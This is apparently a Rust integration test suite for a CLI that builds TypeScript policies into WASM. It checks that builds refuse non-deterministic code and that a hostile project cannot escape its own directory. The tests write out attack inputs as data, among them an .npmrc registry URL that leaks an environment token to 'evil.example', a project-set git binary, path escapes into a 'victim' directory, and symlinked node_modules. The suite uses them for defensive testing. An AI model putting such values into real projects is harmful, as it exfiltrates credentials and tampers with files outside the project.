//! Policies in TypeScript: from `new` to a denied request, and the traps that a build tells about. They need Node and
//! npm's registry.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use tempfile::TempDir;

use super::walk::{first_policy, root};
use super::{attorn, refused};

/// A project of the template, in a directory of its own.
fn project() -> TempDir {
    let home = tempfile::tempdir().unwrap();
    let (code, out, said) = attorn(home.path(), &["new", "listed-actions", "--lang", "typescript"]);
    assert_eq!((code, out.as_str()), (0, "made listed-actions\n"), "{said}");
    home
}

/// Another policy in it: this at its top, and this in its `evaluate`.
fn write(project: &Path, top: &str, evaluate: &str) {
    let text = format!(
        "import {{ allow, definePolicy, log, object }} from \"attorn-policy\";\n{top}\nexport const policy = definePolicy({{\n\
         name: \"x\", version: \"0.1.0\", settings: object({{}}), reasons: [],\nevaluate(ctx) {{ {evaluate} }},\n}});\n"
    );
    fs::write(project.join("src/policy.ts"), text).unwrap();
}

#[test]
fn what_a_policy_cannot_have_is_said_when_it_is_built() {
    let home = project();
    let project = home.path().join("listed-actions");
    fs::write(project.join("policy.wasm"), "before").unwrap();
    for (top, evaluate, said) in [
        // What runs while it is built would say the same for ever.
        ("const begun = Date.now();", "return begun > 0 ? allow() : allow();", "a policy has no clock"),
        ("const salt = Math.random();", "return salt > 0 ? allow() : allow();", "no source of random numbers"),
        ("while (Math.abs(1) > 0) {}", "return allow();", "the program cannot be started: it used more than"),
        // What does not fit is said with its place.
        ("", "return ctx.request.acton;", "src/policy.ts(5,"),
        ("", "return Promise.resolve(allow());", "src/policy.ts(5,"),
        ("", "process.exit(0); return allow();", "src/policy.ts(5,"),
    ] {
        write(&project, top, evaluate);
        refused(&project, &["build"], 1, said, " ");
    }
    let import = "// @ts-ignore\nimport { readFileSync } from \"node:fs\";";
    write(&project, import, "return readFileSync(\"x\") ? allow() : allow();");
    refused(&project, &["build"], 1, "node:fs", "a policy has no modules of Node");
    fs::write(project.join("src/policy.ts"), "export const policy = 7;\n").unwrap();
    refused(&project, &["build"], 1, "has to export `policy`, made by `definePolicy`", "the top of a module");
    fs::remove_file(project.join("src/policy.ts")).unwrap();
    refused(&project, &["build"], 1, "there is no `src/policy.ts`", "");
    write(&project, "", "return allow();");
    fs::remove_file(project.join("tsconfig.json")).unwrap();
    refused(&project, &["build"], 1, "there is no `tsconfig.json`", "");
    assert_eq!(fs::read_to_string(project.join("policy.wasm")).unwrap(), "before", "a component is left as it was");
}

#[test]
fn a_strangers_project_runs_writes_and_reads_nothing_but_its_own() {
    let home = project();
    let project = home.path().join("listed-actions");
    let victim = home.path().join("victim");
    fs::create_dir(&victim).unwrap();
    fs::write(victim.join("policy.js"), "mine").unwrap();
    fs::write(victim.join("secret.json"), "\"mine\"").unwrap();

    // A directory further up says that this is a part of it, and its settings of npm would count then.
    fs::write(home.path().join("package.json"), r#"{ "workspaces": ["listed-actions"] }"#).unwrap();
    fs::write(home.path().join(".npmrc"), "cache=./stolen\n").unwrap();
    // Packages that come with it, among them one where a tool once wrote.
    let brought = project.join("node_modules/.attorn");
    fs::create_dir_all(&brought).unwrap();
    symlink(victim.join("policy.js"), brought.join("policy.js")).unwrap();
    let (code, out, said) = attorn(&project, &["build"]);
    assert_eq!(code, 0, "{out}{said}");
    assert!(!home.path().join("stolen").exists(), "a setting from further up counted");
    assert!(!brought.exists(), "what came with the project was taken for its packages");

    for (file, from, to, said, help) in [
        (".npmrc", "ignore-scripts=true", "git=./tools/git", "`git` is not for a project to set", ""),
        (".npmrc", "ignore-scripts=true", "registry=http://evil.example/${ATTORN_TOKEN}/", "from the environment", ""),
        ("package.json", "\"private\": true", "\"workspaces\": [\"../victim\"]", "`workspaces` are other", ""),
        ("package.json", "\"esbuild\": \"0", "\"evil\": \"a/b\", \"esbuild\": \"0", "is a package from git", ""),
        (
            "package.json",
            "\"typescript\": \"7",
            "\"typescript\": \"6",
            "does not satisfy typescript@6",
            "`package-lock.json` does not fit",
        ),
        ("tsconfig.json", "\"noEmit\": true", "\"tsBuildInfoFile\": \"../victim/policy.js\"", "`tsBuildInfoFile`", ""),
        ("tsconfig.json", "\"noEmit\": true", "\"generateTrace\": \"../victim\"", "`generateTrace`", ""),
        (
            "src/policy.ts",
            "const LISTED",
            "// @ts-ignore\nimport x from \"../../victim/secret.json\";\nexport const y: unknown = x;\nconst LISTED",
            "lies outside",
            "its own modules",
        ),
    ] {
        let path = project.join(file);
        let before = fs::read_to_string(&path).unwrap();
        assert!(before.contains(from), "{file}: {from}");
        fs::write(&path, before.replacen(from, to, 1)).unwrap();
        refused(&project, &["build"], 1, said, help);
        fs::write(&path, before).unwrap();
    }
    fs::remove_dir_all(project.join("node_modules")).unwrap();
    symlink(&victim, project.join("node_modules")).unwrap();
    refused(&project, &["build"], 1, "node_modules`: it is no directory, or a link to one", "");
    let left: Vec<_> = fs::read_dir(&victim).unwrap().map(|entry| entry.unwrap().file_name()).collect();
    assert!(left.len() == 2 && fs::read_to_string(victim.join("policy.js")).unwrap() == "mine", "{left:?}");
}

#[test]
fn what_a_tool_says_of_a_project_is_said_once() {
    let home = project();
    let project = home.path().join("listed-actions");
    write(&project, "", "return ctx.request.acton;");
    let (_, _, said) = attorn(&project, &["build"]);
    assert_eq!(said.matches("src/policy.ts(5,").count(), 1, "{said}");
    write(&project, "// @ts-ignore\nimport x from \"./nowhere\";\nexport const y: unknown = x;", "return allow();");
    let (_, _, said) = attorn(&project, &["build"]);
    assert_eq!(said.matches("Could not resolve \"./nowhere\"").count(), 1, "{said}");
}

#[test]
fn what_goes_wrong_in_a_decision_denies_and_nothing_is_left_for_the_next() {
    const WAYS: [(&str, &str, &str); 10] = [
        ("clock", "return Date.now() > 0 ? allow() : allow();", r#""failure":"policy_error""#),
        ("date", "return new Date().getTime() > 0 ? allow() : allow();", r#""failure":"policy_error""#),
        ("chance", "return Math.random() > 0 ? allow() : allow();", r#""failure":"policy_error""#),
        ("throw", "throw new Error(ctx.request.action);", r#""failure":"policy_error""#),
        ("undeclared", "return allow().debit(\"spent\", 1, 1);", r#""failure":"invalid_verdict""#),
        ("promise", "return Promise.resolve(allow()) as never;", r#""failure":"policy_error""#),
        ("loop", "while (Math.abs(1) > 0) {} return allow();", r#""failure":"deadline""#),
        ("log", "log.info(\"asked\"); return allow();", r#""verdict":"allow""#),
        (
            "console",
            "(globalThis as never as { console: typeof CONSOLE }).console.log(1); return allow();",
            r#""verdict":"allow""#,
        ),
        ("again", "seen += 1; if (seen > 1) throw \"it remembers\"; return allow();", r#""verdict":"allow""#),
    ];
    let home = project();
    let project = home.path().join("listed-actions");
    let ways = WAYS.map(|(name, code, _)| format!("case \"a.{name}\": {{ {code} }}"));
    let evaluate = format!("switch (ctx.request.action) {{ {} default: return allow(); }}", ways.join("\n"));
    write(&project, "let seen = 0; const CONSOLE = { log(_: unknown) {} };", &evaluate);
    let case = |name: &str, action: &str, expect: &str| {
        let context = format!(r#"{{"request":{{"action":"a.{action}","resource":"c/d"}}}}"#);
        format!(r#"{{"name":"{name}","settings":{{}},"context":{context},"expect":{{{expect}}}}}"#)
    };
    let mut cases: Vec<String> = WAYS.iter().map(|(name, _, expect)| case(name, name, expect)).collect();
    cases.push(case("once more", "again", r#""verdict":"allow""#));
    let cases = format!(r#"{{"version":1,"cases":[{}]}}"#, cases.join(","));
    fs::write(project.join("cases/decisions.json"), cases).unwrap();
    let (code, out, said) = attorn(&project, &["build"]);
    assert_eq!(code, 0, "{out}{said}");
    let (code, out, said) = attorn(&project, &["test"]);
    assert!(code == 0 && out.ends_with("11 cases, 0 failed\n"), "{out}{said}");
}

/// All cases of `spend-limit`, which every language has in common. It is built where it lies: what its lock file says of the SDK
/// is true nowhere else.
#[test]
fn spend_limit_in_typescript_passes_the_cases_of_all_languages() {
    let plugin = root().join("plugins/spend-limit");
    let project = plugin.join("typescript");
    let (code, out, said) = attorn(&plugin, &["build", project.to_str().unwrap()]);
    assert_eq!(code, 0, "{out}{said}");
    let component = project.join("policy.wasm");
    let test = ["test", plugin.to_str().unwrap(), "--component", component.to_str().unwrap()];
    let (code, out, said) = attorn(&plugin, &test);
    assert!(code == 0 && out.contains(" cases, 0 failed\n"), "{out}{said}");
}

#[test]
fn a_project_of_another_shape_is_told_what_it_lacks() {
    let home = tempfile::tempdir().unwrap();
    let sdk = ["new", "x", "--lang", "typescript", "--sdk", "."];
    refused(home.path(), &sdk, 1, "`.` is not the SDK", "sdk/policy/typescript");
    fs::write(home.path().join("package.json"), r#"{ "name": "x" }"#).unwrap();
    refused(home.path(), &["build"], 1, "there is no `src/policy.ts`", "");
    let (code, out, _) = attorn(home.path(), &["doctor", "--lang", "typescript"]);
    assert!(code == 0 && out.contains("node") && out.contains("npm") && !out.contains("cargo"), "{out}");
}

#[tokio::test]
async fn what_the_readme_says_of_a_first_policy_in_typescript_works() {
    first_policy("TypeScript", "typescript", &["3 cases, 0 failed\n", "# fail 0\n"], "not_listed").await;
}
